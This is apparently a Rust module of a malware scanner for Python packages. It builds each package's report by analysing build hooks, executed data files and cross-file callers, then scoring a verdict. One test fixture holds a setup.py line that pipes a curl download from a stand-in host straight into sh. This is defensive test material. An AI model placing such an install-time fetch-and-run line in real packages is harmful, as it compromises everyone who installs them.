//! Turns one package's members into its report: which members are Python, their analyses,
//! scores and reports, the declared metadata, and the package verdict.

use rayon::prelude::*;
use wheelhound_analysis::metadata::{Metadata, metadata_priority, parse_metadata};
use wheelhound_analysis::{
    CallerContext, FileAnalysis, analyze_python_called, bytecode_source_path, is_python_member,
    note_bytecode_without_source,
};
use wheelhound_input::Package;
use wheelhound_report::{
    FileInput, FileReport, PackageError, PackageReport, Verdict, build_file_report, evidence,
    score_move,
};
use wheelhound_scoring::{FileScores, MALICIOUS_THRESHOLD, SUSPICIOUS_THRESHOLD, score_file};

use crate::ScanOptions;

/// The Python members that a build frontend runs while installing the sdist (the in-tree
/// PEP 517 backend, poetry's build script, hatch's custom hook; see
/// `metadata::build_time_files`), with the functions it calls in each: they run at install
/// time like setup.py, whatever their folder is called.
fn build_time_members(
    package: &Package,
    python: &[&wheelhound_input::Member],
) -> Vec<(usize, &'static [&'static str])> {
    let Some(pyproject) = package.members.iter().find(|m| {
        let inner = m.path.rsplit("!/").next().unwrap_or(&m.path);
        inner.matches('/').count() <= 1 && inner.rsplit('/').next() == Some("pyproject.toml")
    }) else {
        return Vec::new();
    };
    let root = pyproject
        .path
        .strip_suffix("pyproject.toml")
        .unwrap_or_default();
    let text = String::from_utf8_lossy(pyproject.data.get(..1 << 20).unwrap_or(&pyproject.data));
    let files = wheelhound_analysis::metadata::build_time_files(&text);
    python
        .iter()
        .enumerate()
        .filter_map(|(index, member)| {
            let relative = member.path.strip_prefix(root)?;
            files
                .iter()
                .find(|(file, _)| file == relative)
                .map(|(_, hooks)| (index, *hooks))
        })
        .collect()
}

/// Largest data file handed back to the module that executes it.
const MAX_EXECUTED_FILE_BYTES: usize = 1 << 20;

/// For each analysed file that executes the contents of a file by name
/// (`exec(open(os.path.join(here, 'settings.dat')).read())`), the texts of the package's
/// non-Python members of that name, nearest to the file first: a payload parked in a data file
/// is read as code of the file that runs it. Python members are analysed as files already.
fn executed_data_files(
    package: &Package,
    analyses: &[FileAnalysis],
) -> Vec<(usize, Vec<(String, String)>)> {
    let mut found = Vec::new();
    for (index, analysis) in analyses.iter().enumerate() {
        let names = &analysis.facts.executed_files;
        if names.is_empty() {
            continue;
        }
        let directory = analysis.path.rsplit_once('/').map_or("", |(dir, _)| dir);
        let mut texts = Vec::new();
        for name in names {
            let mut candidates: Vec<&wheelhound_input::Member> = package
                .members
                .iter()
                .filter(|member| {
                    member.path.rsplit('/').next() == Some(name.as_str())
                        && member.data.len() <= MAX_EXECUTED_FILE_BYTES
                        && !is_python_member(&member.path, &member.data)
                })
                .collect();
            candidates.sort_by_key(|member| !member.path.starts_with(directory));
            if let Some(member) = candidates.first() {
                texts.push((
                    name.clone(),
                    String::from_utf8_lossy(&member.data).into_owned(),
                ));
            }
        }
        if !texts.is_empty() {
            found.push((index, texts));
        }
    }
    found
}

/// True when a member holds anything but blanks.
fn holds_code(member: &wheelhound_input::Member) -> bool {
    member.data.iter().any(|b| !b.is_ascii_whitespace())
}

/// True when every Python member with code in it, setup.py aside, sits where tests, docs and
/// examples do: then those files are the package (`pkg/example/payload.py` under an empty
/// `pkg/__init__.py`). Popular packages ship their code beside their tests, never only there.
fn only_tests_hold_code(python: &[&wheelhound_input::Member], own_modules: &[String]) -> bool {
    use wheelhound_analysis::context::FileRole;
    let mut in_tests = false;
    for member in python.iter().filter(|member| holds_code(member)) {
        match FileRole::of_path_in(&member.path, own_modules) {
            FileRole::TestOrDocs => in_tests = true,
            FileRole::Setup => {}
            FileRole::Module | FileRole::PackageInit | FileRole::Pth => return false,
        }
    }
    in_tests
}

/// Most top-level module names collected from one package.
const MAX_PACKAGE_MODULES: usize = 256;

/// The top-level import names the package's Python files provide: every directory and file
/// stem on their paths (an sdist's `name-version/` and `src/` layers are not importable, but
/// naming them too costs nothing and needs no guess at the layout).
fn top_level_modules(python: &[&wheelhound_input::Member]) -> Vec<String> {
    let mut modules: Vec<String> = Vec::new();
    for member in python {
        let inner = member.path.rsplit("!/").next().unwrap_or(&member.path);
        for part in inner.split('/').take(4) {
            let name = part.strip_suffix(".py").unwrap_or(part);
            if !name.is_empty()
                && modules.len() < MAX_PACKAGE_MODULES
                && !modules.iter().any(|m| m == name)
            {
                modules.push(name.to_owned());
            }
        }
    }
    modules
}

/// Rounds of the cross-file look (see [`analyze_package`]): enough for a chain of three
/// modules past the one that loads first, bounded so that import cycles end.
const CALLER_ROUNDS: usize = 4;

/// Analyses every Python member of `package` and builds its report.
pub fn analyze_package(package: Package, options: &ScanOptions) -> PackageReport {
    let metadata = read_metadata(&package);
    let mut errors: Vec<PackageError> = package
        .issues
        .iter()
        .map(|issue| PackageError {
            path: issue.path.clone(),
            kind: serde_json::to_value(issue.kind)
                .ok()
                .and_then(|v| v.as_str().map(str::to_owned))
                .unwrap_or_else(|| "input".to_owned()),
            message: issue.message.clone(),
        })
        .collect();

    let python: Vec<&wheelhound_input::Member> = package
        .members
        .iter()
        .filter(|member| is_python_member(&member.path, &member.data))
        .collect();
    // A package published as `test-x` ships `test_x`: that folder is the package, not its tests.
    let own_modules: Vec<String> = metadata
        .name
        .as_deref()
        .map(wheelhound_analysis::context::import_name)
        .into_iter()
        .collect();
    let nothing_shipped_outside_tests = only_tests_hold_code(&python, &own_modules);
    let code_in_maintainer_folders = nothing_shipped_outside_tests
        && python.iter().any(|member| {
            holds_code(member)
                && wheelhound_analysis::context::FileRole::only_in_maintainer_folders(
                    &member.path,
                    &own_modules,
                )
        });
    let package_modules = top_level_modules(&python);
    let first_look = CallerContext {
        own_modules: own_modules.clone(),
        nothing_shipped_outside_tests,
        code_in_maintainer_folders,
        package_modules: package_modules.clone(),
        ..CallerContext::default()
    };
    let mut analyses: Vec<FileAnalysis> = python
        .par_iter()
        .map(|member| {
            analyze_python_called(&member.path, &member.data, &options.analysis, &first_look)
        })
        .collect();
    // Second look at files that others run while loading: their code runs as early as the caller.
    // What a file so re-read runs early can reach a third file (`__init__` starts
    // `_sync.run` in a thread, which calls `_gh.upload`), so the look is repeated, for the
    // files whose callers changed, until nothing changes or the rounds run out.
    let plugins = metadata.entry_point_modules(wheelhound_analysis::eager::PLUGIN_GROUPS);
    let tool_runs = crate::triggers::tool_runs(&package, &metadata);
    let data_files = executed_data_files(&package, &analyses);
    let build_members = build_time_members(&package, &python);
    // How each file was last re-read: the same context again would give the same analysis.
    let mut previous: foldhash::HashMap<usize, CallerContext> = foldhash::HashMap::default();
    let paths: Vec<&str> = python.iter().map(|member| member.path.as_str()).collect();
    let index = crate::callers::ModuleIndex::new(&paths);
    for _ in 0..CALLER_ROUNDS {
        let mut called = {
            let refs: Vec<&FileAnalysis> = analyses.iter().collect();
            crate::callers::callers(&index, &refs, &plugins, &tool_runs)
        };
        for (index, texts) in &data_files {
            called
                .entry(*index)
                .or_default()
                .executed_files
                .clone_from(texts);
        }
        for (index, hooks) in &build_members {
            let entry = called.entry(*index).or_default();
            // Shipped build code, even under a folder named like `tools` or `scripts`.
            entry.imported_by_shipped_code = true;
            entry.module_context = Some(wheelhound_analysis::ExecContext::Install);
            entry.functions_context = Some(wheelhound_analysis::ExecContext::Install);
            entry
                .functions
                .extend(hooks.iter().map(|hook| (*hook).to_owned()));
        }
        called.retain(|index, caller| {
            let changed = previous.get(index) != Some(caller);
            if changed {
                previous.insert(*index, caller.clone());
            }
            changed
        });
        if called.is_empty() {
            break;
        }
        let again: Vec<(usize, FileAnalysis)> = called
            .into_par_iter()
            .filter_map(|(index, mut caller)| {
                let member = python.get(index)?;
                caller.own_modules.clone_from(&own_modules);
                caller.nothing_shipped_outside_tests = nothing_shipped_outside_tests;
                caller.code_in_maintainer_folders = code_in_maintainer_folders;
                caller.package_modules.clone_from(&package_modules);
                Some((
                    index,
                    analyze_python_called(&member.path, &member.data, &options.analysis, &caller),
                ))
            })
            .collect();
        for (index, analysis) in again {
            if let Some(slot) = analyses.get_mut(index) {
                *slot = analysis;
            }
        }
    }
    // A `.pyc` beside its `.py` is a build leftover; without it, the bytecode is all there is.
    // Sources are matched on their last two path components: archives of installed trees
    // repeat their prefix differently for the two (`…/pkg/__init__.py/Users/…/pkg/__init__.py`).
    let tail = |path: &str| -> String {
        let mut parts = path.rsplit('/');
        let file = parts.next().unwrap_or("");
        match parts.next() {
            Some(dir) => format!("{dir}/{file}"),
            None => file.to_owned(),
        }
    };
    let sources: std::collections::HashSet<String> =
        package.members.iter().map(|m| tail(&m.path)).collect();
    for analysis in &mut analyses {
        if let Some(source) = bytecode_source_path(&analysis.path)
            && !sources.contains(&tail(&source))
        {
            note_bytecode_without_source(analysis);
        }
    }
    let analysed: Vec<(FileAnalysis, FileScores)> = analyses
        .into_par_iter()
        .map(|analysis| {
            let scores = score_file(&analysis);
            (analysis, scores)
        })
        .collect();

    for (analysis, _) in &analysed {
        for error in &analysis.errors {
            errors.push(PackageError {
                path: Some(analysis.path.clone()),
                kind: "analysis".to_owned(),
                message: error.clone(),
            });
        }
    }

    let mut files: Vec<FileReport> = analysed
        .iter()
        .filter(|(analysis, _)| options.all_files || !analysis.findings.is_empty())
        .map(|(analysis, scores)| {
            build_file_report(&FileInput {
                analysis,
                scores,
                package_name: metadata.name.as_deref(),
                package_summary: metadata.summary.as_deref(),
            })
        })
        .collect();
    files.sort_by(|a, b| {
        b.malware
            .total_cmp(&a.malware)
            .then(b.security_risk.total_cmp(&a.security_risk))
            .then(a.path.cmp(&b.path))
    });

    let (package_scores, package_findings) =
        crate::package_level::score(&package, metadata.name.as_deref(), &analysed);
    let malware = package_scores.malware;
    let security_risk = package_scores.security_risk;
    let obfuscated = package_scores.obfuscated;
    let verdict = if package.fatal {
        Verdict::Error
    } else if malware >= MALICIOUS_THRESHOLD {
        Verdict::Malicious
    } else if malware >= SUSPICIOUS_THRESHOLD {
        Verdict::Suspicious
    } else {
        Verdict::Benign
    };
    let reasons = crate::package_level::reasons(&package_scores, decisive_reasons(&analysed));
    let confidence = package_confidence(verdict, &analysed, &errors);

    PackageReport {
        input: package.input,
        name: metadata.name,
        version: metadata.version,
        summary: metadata.summary,
        entry_points: metadata.entry_points,
        verdict,
        malware,
        security_risk,
        obfuscated,
        confidence,
        reasons,
        files_analysed: analysed.len(),
        members: package.members.len(),
        files,
        package_evidence: package_findings.iter().map(evidence).collect(),
        score_moves: package_scores
            .contributions
            .iter()
            .map(score_move)
            .collect(),
        errors,
    }
}

/// The strongest malware contributions across files, worded for a person.
fn decisive_reasons(analysed: &[(FileAnalysis, FileScores)]) -> Vec<String> {
    let mut moves: Vec<_> = analysed
        .iter()
        .flat_map(|(_, scores)| scores.contributions.iter())
        .filter(|c| c.score == "malware" && c.weight >= 0.25)
        .collect();
    moves.sort_by(|a, b| b.weight.total_cmp(&a.weight));
    let mut reasons = Vec::new();
    for contribution in moves {
        let reason = format!("{} ({})", contribution.reason, contribution.location);
        if !reasons.contains(&reason) {
            reasons.push(reason);
        }
        if reasons.len() == 2 {
            break;
        }
    }
    reasons
}

fn package_confidence(
    verdict: Verdict,
    analysed: &[(FileAnalysis, FileScores)],
    errors: &[PackageError],
) -> f64 {
    match verdict {
        Verdict::Error => 0.0,
        Verdict::Benign => {
            // A file cut off by its time budget may hide what was not read.
            let penalty = if analysed.iter().any(|(a, _)| a.time_budget_hit) {
                0.3
            } else if errors.is_empty() {
                0.0
            } else {
                0.1
            };
            let base = if analysed.is_empty() { 0.6 } else { 0.9 };
            wheelhound_scoring::round(base - penalty)
        }
        _ => analysed
            .iter()
            .max_by(|a, b| a.1.malware.total_cmp(&b.1.malware))
            .map_or(0.5, |(_, s)| s.confidence),
    }
}

/// Declared metadata from the best-placed metadata files, best first.
fn read_metadata(package: &Package) -> Metadata {
    let mut candidates: Vec<(u8, &wheelhound_input::Member)> = package
        .members
        .iter()
        .filter_map(|m| metadata_priority(&m.path).map(|p| (p, m)))
        .collect();
    candidates.sort_by_key(|(priority, member)| (*priority, member.path.len()));
    let mut metadata = Metadata::default();
    for (_, member) in candidates {
        metadata.merge(parse_metadata(&member.path, &member.data));
    }
    metadata
}

#[cfg(test)]
pub(crate) mod tests {
    #![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
    #![allow(clippy::indexing_slicing)]
    use super::*;
    use wheelhound_input::{Member, Origin};

    /// A directory package holding `members` as `(path, text)`.
    pub(crate) fn package(members: &[(&str, &str)]) -> Package {
        Package {
            input: "demo.tar.gz".to_owned(),
            origin: Origin::Directory,
            members: members
                .iter()
                .map(|(path, text)| Member {
                    path: (*path).to_owned(),
                    data: text.as_bytes().to_vec(),
                    size: text.len() as u64,
                })
                .collect(),
            issues: Vec::new(),
            fatal: false,
        }
    }

    #[test]
    fn malicious_setup_makes_the_package_malicious() {
        let report = analyze_package(
            package(&[
                (
                    "demo-1.0/PKG-INFO",
                    "Name: demo\nVersion: 1.0\nSummary: A demo\n",
                ),
                (
                    "demo-1.0/setup.py",
                    "import os\nos.system('curl http://x.invalid/a | sh')\n",
                ),
                ("demo-1.0/demo/__init__.py", "x = 1\n"),
            ]),
            &ScanOptions::default(),
        );
        assert_eq!(report.verdict, Verdict::Malicious);
        assert_eq!(report.name.as_deref(), Some("demo"));
        assert_eq!(report.files_analysed, 2);
        assert_eq!(report.files.len(), 1);
        assert_eq!(report.files[0].path, "demo-1.0/setup.py");
        assert!(!report.reasons.is_empty());
    }

    #[test]
    fn all_files_lists_clean_files_too() {
        let options = ScanOptions {
            all_files: true,
            ..ScanOptions::default()
        };
        let report = analyze_package(
            package(&[("demo/m.py", "x = 1\n"), ("demo/README", "hi")]),
            &options,
        );
        assert_eq!(report.verdict, Verdict::Benign);
        assert_eq!(report.files.len(), 1);
    }
}
